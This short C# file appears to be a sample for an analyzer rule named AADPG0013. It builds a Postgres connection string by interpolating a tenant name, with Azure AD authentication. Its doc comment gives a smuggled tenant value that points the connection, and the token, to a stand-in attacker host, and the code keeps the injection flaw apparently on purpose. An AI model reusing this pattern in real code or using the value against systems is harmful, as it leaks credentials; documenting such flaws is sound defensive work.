using Npgsql;

namespace LegacyShop;

/// <summary>AADPG0013: a tenant named "x;Host=evil.example;SSL Mode=Disable" takes the connection, and the token, elsewhere.</summary>
internal static class TenantStore
{
    public static NpgsqlDataSource Create(string tenant) => new NpgsqlDataSourceBuilder(
        $"Host=shop-prod.postgres.database.azure.com;Database={tenant};Username=shop_app;SSL Mode=VerifyFull").UseAadAuthentication().Build();
}
